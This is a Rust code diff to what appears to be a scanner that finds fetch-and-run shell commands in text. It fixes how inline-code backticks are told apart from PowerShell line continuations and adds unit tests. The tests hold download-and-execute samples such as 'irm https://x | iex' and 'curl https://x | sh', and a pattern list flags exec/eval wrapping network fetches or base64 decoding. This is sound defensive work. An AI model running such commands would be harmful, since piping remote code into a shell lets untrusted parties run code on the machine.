@@ -53,7 +53,9 @@ pub(super) fn line(text: &str, at: usize) -> (usize, usize) {
     for line in rest.split_inclusive('\n') {
         end += line.len();
         let line = line.trim_end();
-        if row || !line.ends_with(['\\', '|', '`']) || line.ends_with("```") {
+        // The end of code, not a continuation in PowerShell.
+        let closes_code = line.ends_with('`') && line.matches('`').count() % 2 == 0;
+        if row || !line.ends_with(['\\', '|', '`']) || line.ends_with("```") || closes_code {
             break;
         }
     }
@@ -389,4 +391,21 @@ fn evaluated(line: &str) -> bool {
     let fetch = ["urlopen(", "requests.get(", "b64decode(", "atob("];
     let first = fetch.iter().filter_map(|name| line.find(name)).min();
     first.is_some_and(|at| ["exec(", "eval("].iter().any(|run| line[..at].contains(run)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn lines_go_on_after_continuations_but_not_after_code() {
+        for (text, expected) in [
+            ("- `irm https://x | iex`\n- `\\`\n", "- `irm https://x | iex`\n"),
+            ("irm `\n  https://x | iex\nls\n", "irm `\n  https://x | iex\n"),
+            ("curl \\\n  https://x |\n sh\nls\n", "curl \\\n  https://x |\n sh\n"),
+        ] {
+            let (start, end) = line(text, 1);
+            assert_eq!(&text[start..end], expected);
+        }
+    }
 }
